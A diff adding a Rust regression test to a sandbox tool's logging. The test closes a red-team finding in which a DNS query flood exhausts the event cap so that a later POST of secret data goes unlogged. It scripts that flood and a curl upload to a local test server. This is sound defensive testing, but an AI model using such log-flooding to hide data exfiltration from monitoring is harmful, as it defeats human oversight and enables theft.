@@ -352,3 +352,164 @@ fn filters_apply_before_the_line_limit() {
     assert_eq!(t.json_lines(&["log", "--json"]).len(), 1000, "the default limit");
     assert!(t.json_lines(&["log", "--json", "--limit", "0"]).is_empty());
 }
+
+/// An origin on 127.0.0.1 that reads each request whole (head and `Content-Length` body) and
+/// keeps the bodies it received; answers 200. Returns its port and the bodies.
+fn upload_origin() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>) {
+    use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let bodies = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let kept = bodies.clone();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut s) = stream else { continue };
+            let kept = kept.clone();
+            std::thread::spawn(move || {
+                let mut r = BufReader::new(s.try_clone().unwrap());
+                let mut len = 0usize;
+                loop {
+                    let mut line = String::new();
+                    if r.read_line(&mut line).unwrap_or(0) == 0 {
+                        return;
+                    }
+                    let lower = line.to_ascii_lowercase();
+                    if let Some(v) = lower.strip_prefix("content-length:") {
+                        len = v.trim().parse().unwrap_or(0);
+                    }
+                    if line == "\r\n" {
+                        break;
+                    }
+                }
+                let mut body = vec![0u8; len];
+                if r.read_exact(&mut body).is_err() {
+                    return;
+                }
+                kept.lock().unwrap().push(body);
+                let _ = s.write_all(
+                    b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
+                );
+            });
+        }
+    });
+    (port, bodies)
+}
+
+/// The red team's finding, closed: a sandbox looks up 1,100 made-up names (each under a
+/// registrable domain of its own, so each is a refusal event of its own), which uses up its
+/// burst of 1,000 stored traffic events, then POSTs data to an allowed origin and makes 20 more
+/// requests there. The POST reaches the origin, and `sandgate log` shows it (its path and
+/// bytes), the 20 others counted into one line, and a `(not stored)` line for the refusals
+/// past the cap, in text, `--json` and `--summary`; the refusals stored and not stored add up to
+/// 1,100. `events_per_minute = 1` so that no token comes back while it runs (the red team's
+/// POST got through at the default rate only because none had yet).
+///
+/// Control: before the fix (the cap dropped every event past the burst, allowed or not, and
+/// stored its count as a `sandbox` event), this test fails at "the POST is in the log", after
+/// "the flood went past the cap" passed (checked by hand once against that build).
+#[test]
+fn a_flood_of_refused_names_does_not_hide_a_later_allowed_post_from_the_log() {
+    if skip_unless(can_sandbox(), "root, curl and python3 (net tier)") {
+        return;
+    }
+    const NAMES: u64 = 1100;
+    const MORE: u64 = 20;
+    let t = DaemonEnv::new("[daemon]\nevents_per_minute = 1\n");
+    let (port, bodies) = upload_origin();
+    let flood = format!(
+        r#"
+import socket, struct, hashlib
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(10)
+s.connect(('127.0.0.1', 53))
+nx = 0
+for i in range({NAMES}):
+    name = '%s.d%d.sgtest' % (hashlib.sha256(str(i).encode()).hexdigest()[:16], i)
+    q = struct.pack('>HHHHHH', i & 0xffff, 0x0100, 1, 0, 0, 0)
+    q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
+    s.send(q + struct.pack('>HH', 1, 1))
+    nx += (s.recv(2048)[3] & 15) == 3
+print('nxdomain', nx)
+"#
+    );
+    let url = format!("http://127.0.0.1:{port}");
+    let secret = "secret=".to_owned() + &"4b1d".repeat(64);
+    let script = format!(
+        "python3 -c \"$FLOOD\" && \
+         curl -sS --max-time 20 --noproxy '' -o /dev/null -w 'post %{{http_code}}\\n' \
+           --data-binary '{secret}' {url}/upload && \
+         for i in $(seq {MORE}); do \
+           curl -sS --max-time 20 --noproxy '' -o /dev/null {url}/more || exit 1; done"
+    );
+    let allow = format!("--allow=127.0.0.1:{port}");
+    let mut child = t.cmd();
+    child
+        .env("FLOOD", &flood)
+        .args(["net", &allow, "--", "sh", "-c", &script])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let (code, stdout, stderr) = finish(child.spawn().unwrap());
+    assert_eq!(code, 0, "{stdout}\n{stderr}");
+    assert!(stdout.contains(&format!("nxdomain {NAMES}\npost 200\n")), "{stdout}\n{stderr}");
+    // The data reached the allowed origin: what the log must not hide.
+    assert!(bodies.lock().unwrap().iter().any(|b| b == secret.as_bytes()), "not received");
+
+    let lines = t.json_lines(&["log", "--json", "--limit", "5000"]);
+    let dns: Vec<&Value> = lines.iter().filter(|l| l["method"] == "DNS").collect();
+    let stored_refusals: u64 = dns.iter().map(|l| l["count"].as_u64().unwrap()).sum();
+    // The flood went past the cap: some refusals were not stored (as before the fix).
+    assert!(stored_refusals < NAMES, "{stored_refusals} of {NAMES} lookups stored: not capped");
+    let post: Vec<&Value> =
+        lines.iter().filter(|l| l["decision"] == "allow" && l["method"] == "POST").collect();
+    let tail: Vec<String> = lines[lines.len().saturating_sub(5)..]
+        .iter()
+        .map(|l| format!("{} {} {} x{}", l["decision"], l["method"], l["host"], l["count"]))
+        .collect();
+    assert_eq!(post.len(), 1, "the POST is in the log; its last lines: {tail:#?}");
+    let post = post[0];
+    assert_eq!(
+        (post["host"].as_str(), post["port"].as_u64()),
+        (Some("127.0.0.1"), Some(port.into()))
+    );
+    assert_eq!(post["path"], "/upload", "{post}");
+    assert!(post["bytes_up"].as_u64().unwrap() >= secret.len() as u64, "{post}");
+    // Every allowed request is counted: the POST by itself, the 20 others in one line.
+    let allowed: Vec<&Value> = lines.iter().filter(|l| l["decision"] == "allow").collect();
+    assert_eq!(allowed.iter().map(|l| l["count"].as_u64().unwrap()).sum::<u64>(), 1 + MORE);
+    assert_eq!(allowed.len(), 2, "one line for the 20: {allowed:#?}");
+    // The refusals not stored are a line of the log, and the counts add up.
+    let capped: Vec<&Value> = lines.iter().filter(|l| l["host"] == "(not stored)").collect();
+    assert_eq!(capped.len(), 1, "{capped:#?}");
+    assert_eq!(capped[0]["decision"], "deny", "{}", capped[0]);
+    assert_eq!(stored_refusals + capped[0]["count"].as_u64().unwrap(), NAMES, "{}", capped[0]);
+
+    // The same as text.
+    let text = String::from_utf8_lossy(&t.sg(&["log", "--limit", "5000"]).stdout).into_owned();
+    let target = format!("127.0.0.1:{port}");
+    assert!(
+        text.lines()
+            .any(|l| l.contains(" allow ") && l.contains(&format!("POST    {target}/upload"))),
+        "{}",
+        text.lines().rev().take(5).collect::<Vec<_>>().join("\n")
+    );
+    assert!(
+        text.lines().any(|l| l.contains(" allow ") && l.contains(&format!("{target} x{MORE} ↑"))),
+        "{}",
+        text.lines().rev().take(5).collect::<Vec<_>>().join("\n")
+    );
+    assert!(text.lines().any(|l| l.contains(" deny ") && l.contains("(not stored) x")), "{text}");
+    // Filters keep them: by decision, and by host (the refusals not stored may be of any host).
+    let only_allow = t.json_lines(&["log", "--json", "--decision", "allow"]);
+    assert_eq!(only_allow.len(), 2, "{only_allow:#?}");
+    let by_host = t.json_lines(&["log", "--json", "--host", "127.0.0.1"]);
+    assert_eq!(by_host.len(), 3, "{by_host:#?}");
+
+    // And in the summary.
+    let summary = t.json_lines(&["log", "--summary", "--json"]);
+    let row = |h: &str| {
+        summary.iter().find(|r| r["host"] == h).unwrap_or_else(|| panic!("{h}: {summary:#?}"))
+    };
+    assert_eq!(row("127.0.0.1")["allowed"], 1 + MORE);
+    assert!(row("127.0.0.1")["bytes_up"].as_u64().unwrap() >= secret.len() as u64);
+    assert_eq!(row("(not stored)")["refused"], capped[0]["count"]);
+}
